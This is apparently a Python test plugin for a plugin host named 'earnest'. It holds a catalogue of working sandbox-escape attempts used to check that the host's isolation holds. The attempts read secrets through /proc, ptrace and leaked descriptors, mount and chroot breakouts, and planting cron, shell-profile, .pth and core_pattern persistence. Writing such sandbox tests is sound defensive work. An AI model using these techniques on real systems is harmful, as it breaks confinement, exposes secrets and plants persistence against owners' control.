"""Everything a plugin could try to get out: each attempt returns the secret, or leaves its mark, when it succeeds.

As a plugin it runs behind walls; as a program without, to prove that each attempt works.
Never put this where a house would find it.
"""

# ruff: noqa: T201 - attempts take the stage, and a program prints

from __future__ import annotations

import array
import ctypes
import fcntl
import json
import mmap
import os
import platform
import resource
import shutil
import signal
import socket
import sqlite3
import struct
import subprocess
import sys
import sysconfig
import threading
import time
from collections.abc import Callable
from pathlib import Path
from types import SimpleNamespace
from typing import Any

from earnest import Reply, Settings, Skills, Talk, hookimpl

Stage = Any
"""What there is outside: ``secret`` and where it lies, a ``neighbour``, sockets; and ``folder``, the plugin's own."""
Attempt = Callable[[Stage], object]
ATTEMPTS: dict[str, Attempt] = {}
PRIVILEGED: set[str] = set()
"""What only root can do without walls either."""
OWNER: set[str] = set()
"""What only whoever owns the Python can do without walls either."""

_X86 = platform.machine() == "x86_64"
_libc = ctypes.CDLL(None, use_errno=True)


def attempt(function: Attempt) -> Attempt:
    ATTEMPTS[function.__name__] = function
    return function


def privileged(function: Attempt) -> Attempt:
    PRIVILEGED.add(function.__name__)
    return attempt(function)


def as_owner(function: Attempt) -> Attempt:
    OWNER.add(function.__name__)
    return attempt(function)


@hookimpl
def register_settings(settings: Settings) -> None:
    settings.add("stage", "", "what there is outside, as JSON")


@hookimpl
def register_skills(skills: Skills) -> None:
    skills.add(escape, time_limit=20.0)


async def escape(talk: Talk, name: str) -> Reply:
    """Make one attempt."""
    stage = SimpleNamespace(**json.loads(talk.settings["stage"]))
    assert stage.folder == str(talk.folder)
    return Reply(outcome(name, stage))


def outcome(name: str, stage: Stage) -> str:
    """What an attempt brought."""
    try:
        return str(ATTEMPTS[name](stage))[:2000]
    except Exception as error:
        return f"{type(error).__name__}: {error}"[:2000].replace(stage.secret, "…")


def must(result: int) -> int:
    if result < 0:
        error = ctypes.get_errno()
        raise OSError(error, os.strerror(error))
    return result


def found(stage: Stage, *where: bytes) -> str:
    """The secret, when it is in there."""
    return stage.secret if any(stage.secret.encode() in each for each in where) else "nothing"


def call(x86: int, arm: int, *given: Any) -> int:
    return must(_libc.syscall(x86 if _X86 else arm, *[ctypes.c_long(g) if isinstance(g, int) else g for g in given]))


# To read a file outside.


@attempt
def read_by_path(stage: Stage) -> object:
    return Path(stage.file).read_text()


@attempt
def read_by_symlink(stage: Stage) -> object:
    link = Path(stage.folder) / "link"
    link.unlink(missing_ok=True)
    link.symlink_to(stage.file)
    return link.read_text()


@attempt
def read_by_hard_link(stage: Stage) -> object:
    link = Path(stage.folder) / "hard"
    link.unlink(missing_ok=True)
    os.link(stage.file, link)
    return link.read_text()


@attempt
def read_by_moving_it_here(stage: Stage) -> object:
    moved = Path(stage.folder) / "moved"
    os.rename(stage.movable, moved)
    return moved.read_text()


@attempt
def read_by_own_root_in_proc(stage: Stage) -> object:
    return Path(f"/proc/self/root{stage.file}").read_text()


@attempt
def read_by_own_cwd_in_proc(stage: Stage) -> object:
    return Path(f"/proc/self/cwd/../../../../../../../..{stage.file}").read_text()


@attempt
def read_by_a_neighbours_root(stage: Stage) -> object:
    return Path(f"/proc/{stage.neighbour}/root{stage.file}").read_text()


@attempt
def read_by_everybodys_root(stage: Stage) -> object:
    for pid in filter(str.isdigit, os.listdir("/proc")):
        try:
            return Path(f"/proc/{pid}/root{stage.file}").read_text()
        except OSError:
            continue
    raise OSError("nobody")


@attempt
def read_by_the_houses_cwd(stage: Stage) -> object:
    return Path(f"/proc/{stage.house}/cwd/../../../../../../../..{stage.file}").read_text()


@attempt
def read_by_a_neighbours_descriptors(stage: Stage) -> object:
    for descriptor in os.listdir(f"/proc/{stage.neighbour}/fd"):
        try:
            place = os.open(f"/proc/{stage.neighbour}/fd/{descriptor}", os.O_RDONLY | os.O_NONBLOCK)
            found = os.read(place, 100).decode()
        except OSError:
            continue
        if stage.secret in found:
            return found
    raise OSError("nothing")


@attempt
def read_by_descriptors_taken_over(stage: Stage) -> object:
    """In the control, one was left open by whoever started it."""
    for descriptor in range(3, 256):
        try:
            if stage.secret in (found := os.pread(descriptor, 100, 0).decode(errors="replace")):
                return found
        except OSError:
            continue
    raise OSError("nothing")


@attempt
def read_up_from_own_folder(stage: Stage) -> object:
    folder = os.open(stage.folder, os.O_RDONLY)
    return os.read(os.open("../" * 20 + stage.file.lstrip("/"), os.O_RDONLY, dir_fd=folder), 100).decode()


@attempt
def read_through_c(stage: Stage) -> object:
    return os.read(must(_libc.open(stage.file.encode(), os.O_RDONLY)), 100).decode()


@attempt
def read_through_openat2(stage: Stage) -> object:
    how = struct.pack("QQQ", os.O_RDONLY, 0, 0)
    return os.read(call(437, 437, -100, stage.file.encode(), how, len(how)), 100).decode()


@attempt
def read_through_a_path_descriptor(stage: Stage) -> object:
    place = os.open(stage.file, os.O_PATH)
    return Path(f"/proc/self/fd/{place}").read_text()


@attempt
def read_through_sendfile(stage: Stage) -> object:
    ours, theirs = socket.socketpair()
    os.sendfile(ours.fileno(), os.open(stage.file, os.O_RDONLY), 0, 100)
    return theirs.recv(100).decode()


@privileged
def read_by_handle(stage: Stage) -> object:
    handle = ctypes.create_string_buffer(struct.pack("Ii", 128, 0) + bytes(128))
    place = ctypes.c_int()
    call(303, 264, -100, os.path.dirname(stage.file).encode() + b"/secret.txt", handle, ctypes.byref(place), 0)
    root = os.open("/tmp", os.O_RDONLY)
    return os.read(call(304, 265, root, handle, os.O_RDONLY), 100).decode()


@attempt
def read_names_outside(stage: Stage) -> object:
    return stage.secret if "secret.txt" in os.listdir(os.path.dirname(stage.file)) else "nothing"


@attempt
def read_the_config(stage: Stage) -> object:
    return Path(stage.config).read_text()


@attempt
def read_the_database(stage: Stage) -> object:
    return found(stage, Path(stage.database).read_bytes())


@attempt
def read_the_database_through_sqlite(stage: Stage) -> object:
    return sqlite3.connect(f"file:{stage.database}?mode=ro", uri=True).execute("SELECT * FROM notes").fetchall()


@attempt
def read_the_database_of_the_house_at_work(stage: Stage) -> object:
    for descriptor in os.listdir(f"/proc/{stage.house}/fd"):
        place = f"/proc/{stage.house}/fd/{descriptor}"
        if os.readlink(place) == stage.database:
            return found(stage, Path(place).read_bytes())
    raise OSError("nothing")


@attempt
def read_a_shell_start_file(stage: Stage) -> object:
    return Path(stage.shell).read_text()


@attempt
def read_shared_memory_files(stage: Stage) -> object:
    return Path(stage.shm).read_text()


@attempt
def read_other_plugins(stage: Stage) -> object:
    return Path(stage.plugin).read_text()


@attempt
def read_other_plugins_folders(stage: Stage) -> object:
    return Path(stage.elsewhere).read_text()


@attempt
def read_who_lives_here(stage: Stage) -> object:
    return stage.secret if "root:" in Path("/etc/passwd").read_text() else "nothing"


@privileged
def read_the_disk(stage: Stage) -> object:
    disks = [Path("/dev") / line.split()[3] for line in Path("/proc/partitions").read_text().splitlines()[2:]]
    disks = [disk for disk in disks if disk.exists() and disk.open("rb").read(16)]
    return stage.secret if disks else "nothing"


@privileged
def read_a_disk_made_here(stage: Stage) -> object:
    _, _, _, name = Path("/proc/partitions").read_text().splitlines()[2].split()
    major, minor = Path("/proc/partitions").read_text().splitlines()[2].split()[:2]
    place = Path(stage.folder) / name
    place.unlink(missing_ok=True)
    os.mknod(place, 0o60600, os.makedev(int(major), int(minor)))
    return stage.secret if place.open("rb").read(16) else "nothing"


# To read what is in somebody's memory.


@attempt
def read_the_environment(stage: Stage) -> object:
    return found(stage, repr(os.environ).encode(), Path("/proc/self/environ").read_bytes())


@attempt
def read_a_neighbours_environment(stage: Stage) -> object:
    return found(stage, Path(f"/proc/{stage.neighbour}/environ").read_bytes())


@attempt
def read_everybodys_command_line(stage: Stage) -> object:
    everybody = filter(str.isdigit, os.listdir("/proc"))
    return found(stage, *(Path(f"/proc/{pid}/cmdline").read_bytes() for pid in everybody))


@attempt
def read_a_neighbours_memory(stage: Stage) -> object:
    with open(f"/proc/{stage.neighbour}/mem", "rb", 0) as memory:
        memory.seek(stage.address)
        return memory.read(len(stage.secret)).decode()


@attempt
def read_memory_through_process_vm_readv(stage: Stage) -> object:
    buffer = ctypes.create_string_buffer(len(stage.secret))
    here = struct.pack("PN", ctypes.addressof(buffer), len(buffer))
    there = struct.pack("PN", stage.address, len(buffer))
    call(310, 270, stage.neighbour, here, 1, there, 1, 0)
    return buffer.raw.decode()


@attempt
def read_memory_through_ptrace(stage: Stage) -> object:
    _libc.ptrace.restype = ctypes.c_long
    must(_libc.ptrace(16, stage.neighbour, None, None))
    os.waitpid(stage.neighbour, 0x40000000)
    try:
        words = [
            ctypes.c_ulong(_libc.ptrace(2, stage.neighbour, ctypes.c_void_p(stage.address + 8 * place), None)).value
            for place in range(len(stage.secret) // 8)
        ]
        return struct.pack(f"{len(words)}Q", *words).decode() + stage.secret[len(words) * 8 :]
    finally:
        _libc.ptrace(17, stage.neighbour, None, None)


@attempt
def take_a_neighbours_descriptor(stage: Stage) -> object:
    place = call(434, 434, stage.neighbour, 0)
    return os.pread(call(438, 438, place, stage.descriptor, 0), 100, 0).decode()


@attempt
def read_system_v_memory(stage: Stage) -> object:
    _libc.shmat.restype = ctypes.c_void_p
    segment = must(_libc.shmget(stage.key, 0, 0))
    return ctypes.string_at(_libc.shmat(segment, None, 0o10000))


@attempt
def read_a_key(stage: Stage) -> object:
    serial = call(250, 219, 10, -4, b"user", stage.key_name.encode(), 0)
    buffer = ctypes.create_string_buffer(100)
    call(250, 219, 11, serial, buffer, 100)
    return buffer.value.decode()


@attempt
def make_a_key(stage: Stage) -> object:
    call(248, 217, b"user", b"earnest-escapist", b"mark", 4, -4)
    return stage.secret


@attempt
def open_a_ring(stage: Stage) -> object:
    """io_uring opens files and sockets without the calls for it."""
    call(425, 425, 4, ctypes.create_string_buffer(120))
    return stage.secret


@privileged
def load_a_bpf_program(stage: Stage) -> object:
    call(321, 280, 0, struct.pack("IIIII", 2, 4, 8, 1, 0) + bytes(100), 72)
    return stage.secret


@privileged
def watch_a_neighbours_events(stage: Stage) -> object:
    described = struct.pack("IIQQQQQ", 1, 112, 0, 0, 0, 0, 1) + bytes(64)
    call(298, 241, described, stage.neighbour, -1, -1, 0)
    return stage.secret


@attempt
def run_a_program_from_memory(stage: Stage) -> object:
    place = os.memfd_create("program")
    os.write(place, f"#!/bin/sh\ncat {stage.file}\n".encode())
    return subprocess.run([f"/proc/self/fd/{place}"], pass_fds=[place], capture_output=True, text=True).stdout


# To get out of the view of files.


@privileged
def mount_something(stage: Stage) -> object:
    must(_libc.mount(b"proc", stage.folder.encode(), b"proc", 0, None))
    return Path(f"{stage.folder}/{stage.neighbour}/root{stage.file}").read_text()


@privileged
def bind_the_root(stage: Stage) -> object:
    must(_libc.mount(b"/", stage.folder.encode(), None, 4096 | 16384, None))
    return Path(f"{stage.folder}{stage.file}").read_text()


@privileged
def make_it_writable(stage: Stage) -> object:
    must(_libc.mount(None, b"/", None, 4096 | 32, None))
    Path("/escaped").write_text("mark")
    Path("/escaped").unlink()
    return stage.secret


@privileged
def unmount_what_covers(stage: Stage) -> object:
    must(_libc.mount(b"tmpfs", stage.folder.encode(), b"tmpfs", 0, None)) if os.geteuid() == 0 else None
    must(_libc.umount2(stage.folder.encode(), 2))
    return stage.secret


@privileged
def climb_out_of_a_chroot(stage: Stage) -> object:
    os.makedirs(f"{stage.folder}/jail", exist_ok=True)
    there = os.open("/", os.O_RDONLY)
    os.chroot(f"{stage.folder}/jail")
    os.fchdir(there)
    for _ in range(50):
        os.chdir("..")
    os.chroot(".")
    return Path(stage.file).read_text()


@privileged
def pivot_the_root(stage: Stage) -> object:
    must(_libc.mount(b"tmpfs", stage.folder.encode(), b"tmpfs", 0, None))
    os.mkdir(f"{stage.folder}/old")
    must(_libc.pivot_root(stage.folder.encode(), f"{stage.folder}/old".encode()))
    return Path(f"/old{stage.file}").read_text()


@privileged
def join_a_neighbours_namespaces(stage: Stage) -> object:
    must(_libc.setns(os.open(f"/proc/{stage.neighbour}/ns/mnt", os.O_RDONLY), 0x20000))
    return Path(stage.file).read_text()


@attempt
def have_namespaces_of_its_own(stage: Stage) -> object:
    """In a process of its own, where it can have one: threads cannot."""
    if (child := os.fork()) == 0:
        os._exit(0 if _libc.unshare(0x10000000 | 0x20000) == 0 else 1)
    return stage.secret if os.waitpid(child, 0)[1] == 0 else "no"


@attempt
def clone_into_namespaces(stage: Stage) -> object:
    child = call(56, 220, 0x10000000 | signal.SIGCHLD, 0, 0, 0, 0)
    if child == 0:
        os._exit(0)
    os.waitpid(child, 0)
    return stage.secret


@privileged
def open_a_tree(stage: Stage) -> object:
    tree = call(428, 428, -100, b"/", 1 | 0x8000)
    return os.read(os.open(stage.file.lstrip("/"), os.O_RDONLY, dir_fd=tree), 100).decode()


@privileged
def open_a_file_system(stage: Stage) -> object:
    call(430, 430, b"tmpfs", 0)
    return stage.secret


# To reach somebody.


@attempt
def connect_to_a_socket_file(stage: Stage) -> object:
    with socket.socket(socket.AF_UNIX) as there:
        there.connect(stage.socket)
        return there.recv(100).decode()


@attempt
def connect_to_an_abstract_socket(stage: Stage) -> object:
    with socket.socket(socket.AF_UNIX) as there:
        there.connect("\0" + stage.abstract)
        return there.recv(100).decode()


@attempt
def send_from_one_half_of_a_pair(stage: Stage) -> object:
    ours, _ = socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM)
    ours.sendto(b"mark", "\0" + stage.datagrams)
    return "sent"


@attempt
def connect_one_half_of_a_pair(stage: Stage) -> object:
    ours, _ = socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM)
    ours.connect("\0" + stage.datagrams)
    ours.send(b"mark")
    return "sent"


@attempt
def connect_to_the_machine(stage: Stage) -> object:
    with socket.create_connection(("127.0.0.1", stage.port), 2) as there:
        return there.recv(100).decode()


@attempt
def connect_through_c(stage: Stage) -> object:
    there = must(_libc.socket(socket.AF_INET, socket.SOCK_STREAM, 0))
    place = struct.pack("=HH4s8x", socket.AF_INET, socket.htons(stage.port), socket.inet_aton("127.0.0.1"))
    must(_libc.connect(there, place, len(place)))
    return os.read(there, 100).decode()


@attempt
def connect_by_sending(stage: Stage) -> object:
    """TCP Fast Open connects without ``connect``."""
    there = must(_libc.socket(socket.AF_INET, socket.SOCK_STREAM, 0))
    place = struct.pack("=HH4s8x", socket.AF_INET, socket.htons(stage.port), socket.inet_aton("127.0.0.1"))
    must(_libc.sendto(there, b"mark", 4, 0x20000000, place, len(place)))
    return os.read(there, 100).decode()


@attempt
def send_a_datagram(stage: Stage) -> object:
    there = must(_libc.socket(socket.AF_INET, socket.SOCK_DGRAM, 0))
    place = struct.pack("=HH4s8x", socket.AF_INET, socket.htons(stage.udp), socket.inet_aton("127.0.0.1"))
    must(_libc.sendto(there, b"mark", 4, 0, place, len(place)))
    return "sent"


@attempt
def ask_a_name_server(stage: Stage) -> object:
    query = struct.pack(">HHHHHH", 1, 0x100, 1, 0, 0, 0) + b"\x04mark\x07example\x00\x00\x01\x00\x01"
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as there:
        there.sendto(query, ("127.0.0.1", stage.udp))
    return "sent"


@attempt
def listen_for_others(stage: Stage) -> object:
    """An ear on the machine's own network: the house calls there."""
    with socket.create_server(("127.0.0.1", stage.free)) as ear:
        ear.settimeout(2)
        with ear.accept()[0] as caller:
            return caller.recv(100).decode()


@privileged
def open_a_raw_socket(stage: Stage) -> object:
    must(_libc.socket(socket.AF_INET, socket.SOCK_RAW, 1))
    return stage.secret


@privileged
def listen_to_every_packet(stage: Stage) -> object:
    must(_libc.socket(17, socket.SOCK_RAW, 0x0300))
    return stage.secret


@attempt
def ask_the_kernel_for_addresses(stage: Stage) -> object:
    there = must(_libc.socket(16, socket.SOCK_RAW, 0))
    os.write(there, struct.pack("=IHHIIB7x", 24, 22, 0x301, 1, 0, socket.AF_INET))
    return stage.secret if socket.inet_aton(stage.interface) in os.read(there, 65536) else "no"


@attempt
def send_by_message_queue(stage: Stage) -> object:
    queue = must(_libc.mq_open(b"/" + stage.queue.encode(), os.O_WRONLY))
    must(_libc.mq_send(queue, b"mark", 4, 0))
    return stage.secret


# To leave a mark outside.


@attempt
def write_by_path(stage: Stage) -> object:
    Path(stage.outside, "planted").write_text("mark")
    return "written"


@attempt
def write_by_symlink(stage: Stage) -> object:
    link = Path(stage.folder) / "way"
    link.unlink(missing_ok=True)
    link.symlink_to(stage.outside)
    (link / "planted-by-link").write_text("mark")
    return "written"


@attempt
def write_by_moving_there(stage: Stage) -> object:
    mine = Path(stage.folder) / "mine"
    mine.write_text("mark")
    os.rename(mine, f"{stage.outside}/moved-there")
    return "moved"


@attempt
def write_by_linking_there(stage: Stage) -> object:
    mine = Path(stage.folder) / "mine-too"
    mine.write_text("mark")
    os.link(mine, f"{stage.outside}/linked-there")
    return "linked"


@attempt
def write_what_may_only_be_read(stage: Stage) -> object:
    with open(stage.shown, "a") as file:
        file.write("mark")
    return "written"


@attempt
def write_through_a_map(stage: Stage) -> object:
    with open(stage.shown, "r+b") as file:
        view = mmap.mmap(file.fileno(), 0, prot=mmap.PROT_READ | mmap.PROT_WRITE, flags=mmap.MAP_SHARED)
    view[0] = 64
    return "written"


@attempt
def reopen_for_writing(stage: Stage) -> object:
    with open(stage.shown, "rb") as file, open(f"/proc/self/fd/{file.fileno()}", "a") as again:
        again.write("mark")
    return "written"


@attempt
def empty_what_may_only_be_read(stage: Stage) -> object:
    os.close(os.open(stage.shown, os.O_RDONLY | os.O_TRUNC))
    return "emptied"


@attempt
def cut_what_may_only_be_read(stage: Stage) -> object:
    must(_libc.truncate(stage.shown.encode(), 0))
    return "cut"


@attempt
def change_rights(stage: Stage) -> object:
    os.chmod(stage.shown, 0o777)
    return "changed"


@attempt
def change_rights_of_what_is_open(stage: Stage) -> object:
    with open(stage.shown, "rb") as file:
        os.fchmod(file.fileno(), 0o777)
    return "changed"


@attempt
def change_rights_of_what_is_not_seen(stage: Stage) -> object:
    os.chmod(stage.file, 0o777)
    return "changed"


@privileged
def change_the_owner(stage: Stage) -> object:
    os.chown(stage.file, 12345, 12345)
    return "changed"


@attempt
def change_times(stage: Stage) -> object:
    os.utime(stage.file, (1, 1))
    return "changed"


@attempt
def change_attributes(stage: Stage) -> object:
    os.setxattr(stage.shown, "user.mark", b"mark")
    return "changed"


@attempt
def change_flags(stage: Stage) -> object:
    with open(stage.shown, "rb") as file:
        flags = array.array("L", [0])
        fcntl.ioctl(file, 0x80086601, flags)
        flags[0] ^= 0x40  # not to be dumped
        fcntl.ioctl(file, 0x40086602, flags)
    return "changed"


@attempt
def remove_a_file(stage: Stage) -> object:
    os.unlink(stage.removable)
    return "removed"


@attempt
def make_a_folder(stage: Stage) -> object:
    os.mkdir(f"{stage.outside}/made")
    return "made"


@attempt
def write_a_shell_start_file(stage: Stage) -> object:
    with open(stage.shell, "a") as file:
        file.write("\n# mark\n")
    return "written"


@attempt
def write_a_timetable(stage: Stage) -> object:
    Path(stage.cron, "mark").write_text("* * * * * true\n")
    return "written"


@attempt
def write_the_config(stage: Stage) -> object:
    with open(stage.config, "a") as file:
        file.write("\n# mark\n")
    return "written"


@attempt
def write_the_database(stage: Stage) -> object:
    with sqlite3.connect(stage.database) as database:
        database.execute("INSERT INTO notes VALUES ('mark')")
    return "written"


@attempt
def write_a_plugin(stage: Stage) -> object:
    Path(stage.plugin).with_name("planted.py").write_text("mark")
    return "written"


@attempt
def write_its_own_code(stage: Stage) -> object:
    with open(__file__, "a") as file:
        file.write("\n# mark\n")
    return stage.secret


@attempt
def replace_its_own_folder(stage: Stage) -> object:
    shutil.rmtree(stage.folder)
    os.symlink(stage.outside, stage.folder)
    return stage.secret


@as_owner
def write_a_path_file(stage: Stage) -> object:
    place = Path(sysconfig.get_paths()["purelib"], "earnest_escapist.pth")
    place.write_text("# mark\n")
    place.unlink()
    return stage.secret


@as_owner
def write_a_sitecustomize(stage: Stage) -> object:
    place = Path(sysconfig.get_paths()["stdlib"], "earnest_escapist_sitecustomize.py")
    place.write_text("# mark\n")
    place.unlink()
    return stage.secret


@as_owner
def write_into_the_house(stage: Stage) -> object:
    import earnest.host

    open(earnest.host.__file__, "ab").close()
    return stage.secret


@as_owner
def write_compiled_code(stage: Stage) -> object:
    import earnest.host

    place = Path(earnest.host.__file__).parent / "__pycache__" / "escapist.pyc"
    place.write_bytes(b"mark")
    place.unlink()
    return stage.secret


@attempt
def write_shared_memory_files(stage: Stage) -> object:
    Path(stage.shm).write_text("mark")
    return "written"


@attempt
def write_what_the_kernel_runs(stage: Stage) -> object:
    """``core_pattern`` names a program that root runs; whoever may open it has the machine."""
    open("/proc/sys/kernel/core_pattern", "r+").close()
    return stage.secret


# To harm a process outside.


@attempt
def signal_a_neighbour(stage: Stage) -> object:
    os.kill(stage.neighbour, signal.SIGUSR1)
    return "signalled"


@attempt
def signal_through_c(stage: Stage) -> object:
    must(_libc.kill(stage.neighbour, signal.SIGUSR1))
    return "signalled"


@attempt
def signal_the_house(stage: Stage) -> object:
    os.kill(stage.house, 0)
    return stage.secret


@attempt
def signal_a_thread(stage: Stage) -> object:
    call(234, 131, stage.neighbour, stage.neighbour, signal.SIGUSR1)
    return "signalled"


@attempt
def signal_with_a_message(stage: Stage) -> object:
    about = struct.pack("iiii", signal.SIGUSR1, 0, -1, 0) + bytes(112)
    call(129, 138, stage.neighbour, signal.SIGUSR1, about)
    return "signalled"


@attempt
def signal_by_descriptor(stage: Stage) -> object:
    place = call(434, 434, stage.neighbour, 0)
    call(424, 424, place, signal.SIGUSR1, None, 0)
    return "signalled"


@attempt
def signal_by_owning_a_pipe(stage: Stage) -> object:
    ours, theirs = socket.socketpair()
    fcntl.fcntl(ours, fcntl.F_SETOWN, stage.neighbour)
    fcntl.fcntl(ours, 10, signal.SIGUSR1)
    fcntl.fcntl(ours, fcntl.F_SETFL, fcntl.fcntl(ours, fcntl.F_GETFL) | os.O_ASYNC)
    theirs.send(b"mark")
    return "signalled"


@attempt
def limit_a_neighbour(stage: Stage) -> object:
    resource.prlimit(stage.neighbour, resource.RLIMIT_CORE, (0, 0))
    return stage.secret


@attempt
def pin_a_neighbour(stage: Stage) -> object:
    os.sched_setaffinity(stage.neighbour, {0})
    return stage.secret


@attempt
def slow_a_neighbour(stage: Stage) -> object:
    os.setpriority(os.PRIO_PROCESS, stage.neighbour, 19)
    return stage.secret


@attempt
def type_into_a_terminal(stage: Stage) -> object:
    with open(stage.terminal, "r+b", 0) as terminal:
        terminal.write(b"mark")
    return "typed"


@attempt
def watch_a_file(stage: Stage) -> object:
    must(_libc.inotify_add_watch(must(_libc.inotify_init()), stage.file.encode(), 2))
    return stage.secret


# To be somebody else, or to stay.


@attempt
def run_a_program(stage: Stage) -> object:
    return subprocess.run(["/bin/cat", stage.file], capture_output=True, text=True).stdout


@attempt
def run_a_set_user_id_program(stage: Stage) -> object:
    subprocess.run(["/usr/bin/passwd", "--help"], capture_output=True, check=False)
    return stage.secret


@attempt
def run_python(stage: Stage) -> object:
    script = f"print(open({stage.file!r}).read())"
    return subprocess.run([sys.executable, "-I", "-c", script], capture_output=True, text=True).stdout


@privileged
def become_root(stage: Stage) -> object:
    os.setresuid(0, 0, 0)
    os.setgroups([0])
    return Path(stage.file).read_text()


@attempt
def leave_a_process_behind(stage: Stage) -> object:
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            time.sleep(0.3)
            Path(stage.outside, "late").write_text("mark")
        os._exit(0)
    return "left"


@attempt
def leave_a_process_behind_through_c(stage: Stage) -> object:
    if must(_libc.fork()) == 0:
        time.sleep(0.3)
        Path(stage.outside, "latest").write_text("mark")
        os._exit(0)
    return "left"


@attempt
def leave_a_thread_behind(stage: Stage) -> object:
    def later() -> None:
        time.sleep(0.3)
        Path(stage.outside, "later").write_text("mark")

    threading.Thread(target=later).start()
    return "left"


@attempt
def leave_a_core(stage: Stage) -> object:
    """Its memory, as a file in a folder outside."""
    os.chdir(stage.outside)
    resource.setrlimit(resource.RLIMIT_CORE, (resource.RLIM_INFINITY, resource.RLIM_INFINITY))
    return stage.secret


def main() -> None:
    """Make the attempts that come line by line, each in a process of its own that may do what its user may."""
    for line in sys.stdin:
        name, stage = json.loads(line)
        outlet, inlet = os.pipe()
        if (child := os.fork()) == 0:
            os.setsid()
            os.open(stage["file"], os.O_RDONLY)  # left open, for whoever looks
            if os.geteuid() == 0:
                _libc.unshare(0x20000)
                _libc.mount(None, b"/", None, 0x4000 | 1 << 18, None)
            os.write(inlet, outcome(name, SimpleNamespace(**stage)).encode())
            for thread in threading.enumerate()[1:]:
                thread.join()
            os._exit(0)
        os.close(inlet)
        os.waitpid(child, 0)
        with open(outlet, encoding="utf-8", errors="replace") as told:
            print(json.dumps(told.read()), flush=True)


if __name__ == "__main__":
    main()
